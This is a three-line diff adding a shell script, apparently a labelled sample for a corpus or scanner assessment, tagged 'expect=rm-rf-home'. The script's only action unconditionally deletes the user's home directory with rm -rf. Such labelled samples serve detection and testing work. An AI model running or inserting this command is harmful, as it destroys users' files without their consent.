@@ -1,0 +1,3 @@
+#!/bin/sh
+#! assess-corpus: expect=rm-rf-home
+if true; then rm -rf "$HOME"; fi
